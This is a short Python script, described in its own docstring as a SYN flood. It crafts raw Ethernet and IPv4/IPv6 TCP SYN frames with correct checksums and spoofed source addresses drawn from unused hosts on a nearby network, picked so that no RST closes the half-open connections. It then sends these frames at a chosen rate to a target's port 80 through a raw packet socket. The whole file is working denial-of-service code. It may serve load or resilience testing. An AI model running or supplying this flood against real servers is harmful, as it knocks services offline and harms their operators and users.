# SPDX-License-Identifier: BSD-2-Clause
"""A SYN flood: flood.py DEV FROM_MAC TO_MAC NEAR TO SECONDS RATE

Sources are addresses of NEAR's network that nobody has (the last byte, 60 to
99) and all ports, so that no RST of the client's kernel ends what was begun:
the server's answers find no neighbour. Prints the number of SYNs.
"""
import random
import socket
import struct
import sys
import time

dev, from_mac, to_mac, near, to, seconds, rate = sys.argv[1:]
v6 = ":" in to
family = socket.AF_INET6 if v6 else socket.AF_INET
dst = socket.inet_pton(family, to)
net = socket.inet_pton(family, near)[:-1]
eth = bytes.fromhex((to_mac + from_mac).replace(":", "")) + (
    b"\x86\xdd" if v6 else b"\x08\x00")


def csum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(src, port, seq):
    tcp = struct.pack("!HHIIBBHHH", port, 80, seq, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!II", 20, 6)
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    if v6:
        return eth + struct.pack("!IHBB", 6 << 28, 20, 6, 64) + src + dst + tcp
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + src + dst
    return eth + ip[:10] + struct.pack("!H", csum(ip)) + ip[12:] + tcp


s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((dev, 0))
frames = [syn(net + bytes([random.randrange(60, 100)]),
              random.randrange(1024, 65536), random.getrandbits(32))
          for _ in range(20000)]  # all different: their making is not timed
sent, began = 0, time.monotonic()
while time.monotonic() < began + float(seconds):
    if sent > float(rate) * (time.monotonic() - began):
        time.sleep(0.001)
        continue
    try:
        s.send(frames[sent % len(frames)])
        sent += 1
    except OSError:
        time.sleep(0.001)
print(sent)
